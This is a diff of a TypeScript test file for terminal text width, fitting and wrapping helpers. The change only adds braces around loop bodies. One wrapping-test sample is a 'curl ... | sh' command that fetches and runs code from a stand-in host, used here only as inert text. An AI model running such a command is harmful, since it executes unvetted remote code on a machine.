@@ -27,7 +27,9 @@ const samples = [
 ];
 
 test('the width is that of string-width, by which Ink places everything', () => {
-	for (const text of samples) assert.equal(widthOf(text), stringWidth(text), text);
+	for (const text of samples) {
+		assert.equal(widthOf(text), stringWidth(text), text);
+	}
 	for (let code = 0x20; code < 0x2_f0_00; code += code < 0x3_000 ? 1 : 37) {
 		const text = safe(String.fromCodePoint(code));
 		assert.equal(widthOf(text), stringWidth(text), code.toString(16));
@@ -49,12 +51,15 @@ test('a terminal puts the cursor where the width says', async () => {
 test('a fitted text is exactly as wide as asked, whatever is cut where', () => {
 	const ways: Fit[] = [];
 	for (const align of ['left', 'right', 'center'] as const) {
-		for (const cut of ['start', 'middle', 'end'] as const) ways.push({align, cut});
+		for (const cut of ['start', 'middle', 'end'] as const) {
+			ways.push({align, cut});
+		}
 	}
 	for (const text of [...samples, 'api-7d9f8c-x2k4j', '日本語日本語日本語', 'a日b本c語d']) {
 		for (let width = 0; width < 24; width++) {
-			for (const way of ways)
+			for (const way of ways) {
 				assert.equal(widthOf(fitted(safe(text), width, way)), width, `${text} ${width} ${JSON.stringify(way)}`);
+			}
 		}
 	}
 });
@@ -91,7 +96,9 @@ test('wrapped rows fit, and together are the text', () => {
 	for (const text of [...samples, 'curl -s http://203.0.113.9/x | sh -x  two', 'a日b 本c語d 日本語日本語']) {
 		for (let width = 2; width < 12; width++) {
 			const rows = wrap(safe(text), width);
-			for (const row of rows) assert.ok(widthOf(row) <= width, `${text} ${width}`);
+			for (const row of rows) {
+				assert.ok(widthOf(row) <= width, `${text} ${width}`);
+			}
 			assert.equal(rows.join('').replaceAll(' ', ''), safe(text).replaceAll(' ', ''));
 		}
 	}
